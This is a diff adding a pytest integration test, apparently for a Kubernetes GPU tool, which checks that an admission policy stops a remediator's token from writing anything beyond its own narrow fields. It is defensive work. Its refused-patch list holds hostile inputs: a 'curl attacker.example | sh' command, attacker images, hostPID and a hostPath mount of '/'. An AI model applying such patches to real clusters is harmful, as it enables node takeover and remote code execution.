@@ -1,0 +1,152 @@
+"""What the remediator's token may write, held by the real API server (deploy/components/
+no-dry-run's ValidatingAdmissionPolicy), not only by its planner. Seen: with `patch
+deployments` cluster-wide its token set a kube-system Deployment's image, hostPID and a
+hostPath volume of `/`. Now it writes numaguard's own annotations and labels, swaps one
+MIG profile for another in a pod template, evicts and deletes pods — nowhere in a kube-*
+namespace — and nothing else."""
+
+from __future__ import annotations
+
+import contextlib
+
+import aiohttp
+import pytest
+
+from numaguard.simulator.controlplane import ApiError, path_of
+from numaguard.simulator.processes import until
+
+pytestmark = pytest.mark.cluster
+
+NS = "writes"
+MIG = "nvidia.com/mig-1g.10gb"
+
+
+def deployment(namespace: str) -> dict:
+    labels = {"app": "trainer"}
+    container = {
+        "name": "trainer",
+        "image": "registry.example/trainer:1",
+        "resources": {"limits": {MIG: "1", "cpu": "2"}},
+    }
+    return {
+        "apiVersion": "apps/v1",
+        "kind": "Deployment",
+        "metadata": {"name": "trainer", "namespace": namespace},
+        "spec": {
+            "replicas": 0,  # nothing runs: only the object is written
+            "selector": {"matchLabels": labels},
+            "template": {"metadata": {"labels": labels}, "spec": {"containers": [container]}},
+        },
+    }
+
+
+def containers(**change) -> dict:
+    """A merge patch of the trainer container (a merge patch replaces the list)."""
+    container = {"name": "trainer", "image": "registry.example/trainer:1"}
+    container["resources"] = {"limits": {MIG: "1", "cpu": "2"}}
+    container.update(change)
+    return {"spec": {"template": {"spec": {"containers": [container]}}}}
+
+
+# what the remediator writes, and what a stolen token tried
+ALLOWED = {
+    "its history": {"metadata": {"annotations": {"numaguard.io/history": "{}"}}},
+    "a MIG resize": containers(resources={"limits": {"nvidia.com/mig-2g.20gb": "1", "cpu": "2"}}),
+}
+REFUSED = {
+    "an image": containers(image="attacker.example/shell:1"),
+    "a command": containers(command=["/bin/sh", "-c", "curl attacker.example | sh"]),
+    "more CPU with the resize": containers(
+        resources={"limits": {"nvidia.com/mig-2g.20gb": "1", "cpu": "64"}}
+    ),
+    "hostPID": {"spec": {"template": {"spec": {"hostPID": True}}}},
+    "a hostPath of /": {
+        "spec": {
+            "template": {
+                "spec": {"volumes": [{"name": "host", "hostPath": {"path": "/"}}]},
+            }
+        }
+    },
+    "another account": {"spec": {"template": {"spec": {"serviceAccountName": "admin"}}}},
+    "the replicas": {"spec": {"replicas": 3}},
+    "another's annotation": {"metadata": {"annotations": {"team.example/owner": "me"}}},
+    "a label": {"metadata": {"labels": {"tier": "free"}}},
+}
+
+
+async def test_the_remediator_writes_only_numaguard_s_fields_and_nothing_in_kube_system(
+    control_plane,
+):
+    cp = control_plane
+    token = cp.tokens["numaguard-remediator"]
+    async with aiohttp.ClientSession() as session:
+        with contextlib.suppress(ApiError):
+            await cp.create(
+                session, {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": NS}}
+            )
+        made = []
+        for namespace in (NS, "kube-system"):
+            with contextlib.suppress(ApiError):  # made by an earlier run
+                await cp.create(session, deployment(namespace))
+            made.append(path_of("Deployment", namespace, "trainer"))
+        try:
+
+            async def patch(namespace: str, body: dict) -> tuple[int, dict]:
+                path = path_of("Deployment", namespace, "trainer") + "?dryRun=All"
+                return await cp.request(session, "PATCH", path, body, token)
+
+            async def in_force() -> bool:  # the API server loads a policy within seconds
+                return (await patch("kube-system", ALLOWED["its history"]))[0] == 403
+
+            await until(in_force, "the policy in force", 60)
+            for what, body in ALLOWED.items():
+                status, answer = await patch(NS, body)
+                assert status == 200, (what, answer.get("message"))
+                status, answer = await patch("kube-system", body)
+                assert status == 403 and "kube-*" in answer["message"], (what, answer)
+            for what, body in REFUSED.items():
+                status, answer = await patch(NS, body)
+                assert status == 403, (what, status, answer)
+                assert "numaguard's remediator" in answer["message"], (what, answer)
+            # a pod: numaguard's annotations only, never its spec; no eviction in kube-*
+            pod = {
+                "apiVersion": "v1",
+                "kind": "Pod",
+                "metadata": {"name": "job", "namespace": NS},
+                "spec": {
+                    "schedulerName": "nobody",
+                    "containers": [{"name": "c", "image": "registry.example/job:1"}],
+                },
+            }
+            with contextlib.suppress(ApiError):
+                await cp.create(session, pod)
+            at = path_of("Pod", NS, "job") + "?dryRun=All"
+            image = [
+                {"op": "replace", "path": "/spec/containers/0/image", "value": "attacker.example/x"}
+            ]
+            async with session.patch(
+                cp.url + at,
+                json=image,
+                headers={
+                    "Authorization": f"Bearer {token}",
+                    "Content-Type": "application/json-patch+json",
+                },
+                ssl=cp.ssl_context(),
+            ) as r:
+                status, answer = r.status, await r.json()
+            assert status == 403 and "no pod's spec" in answer["message"], answer.get("message")
+            ours = {"metadata": {"annotations": {"numaguard.io/move-memory": "1800000000"}}}
+            assert (await cp.request(session, "PATCH", at, ours, token))[0] == 200
+            eviction = {
+                "apiVersion": "policy/v1",
+                "kind": "Eviction",
+                "metadata": {"name": "kube-apiserver-node", "namespace": "kube-system"},
+                "deleteOptions": {"dryRun": ["All"]},
+            }
+            evict = path_of("Pod", "kube-system", "kube-apiserver-node") + "/eviction"
+            status, answer = await cp.request(session, "POST", evict, eviction, token)
+            assert status == 403 and "kube-*" in answer["message"], answer
+        finally:
+            for path in made:
+                await cp.request(session, "DELETE", path)
+            await cp.request(session, "DELETE", path_of("Pod", NS, "job") + "?gracePeriodSeconds=0")
